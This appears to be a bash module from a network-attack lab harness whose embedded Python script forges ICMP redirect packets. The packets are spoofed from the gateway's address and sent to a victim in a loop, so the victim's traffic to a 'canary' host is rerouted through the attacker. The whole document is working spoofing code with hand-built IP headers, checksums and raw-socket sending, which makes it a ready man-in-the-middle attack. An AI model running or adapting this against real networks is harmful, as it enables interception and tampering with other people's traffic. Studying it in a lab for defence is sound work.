# shellcheck shell=bash
# ICMP redirects in the router's name: the way to the canary leads over the attacker.
start() { att_forward; mark
  sbg attacker redirect python3 -c '
import socket, struct, sys, time
mac = lambda t: bytes.fromhex(t.replace(":", ""))
ip = socket.inet_aton
me, victim = mac(sys.argv[1]), mac(sys.argv[2])
gw_ip, victim_ip, me_ip, site = (ip(a) for a in sys.argv[3:7])
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff
def packet(protocol, ttl, source, target, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, 0, ttl, protocol, 0, source, target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
about = packet(17, 63, victim_ip, site, struct.pack("!HHHH", 40000, 53, 8, 0))
body = struct.pack("!BBH4s", 5, 1, 0, me_ip) + about
body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0x0800))
while True:
    s.send(victim + me + b"\x08\0" + packet(1, 64, gw_ip, victim_ip, body))
    time.sleep(5)
' $ATT_MAC $VICTIM_MAC $GW_IP $VICTIM_IP $ATT_IP $CANARY_IP; }
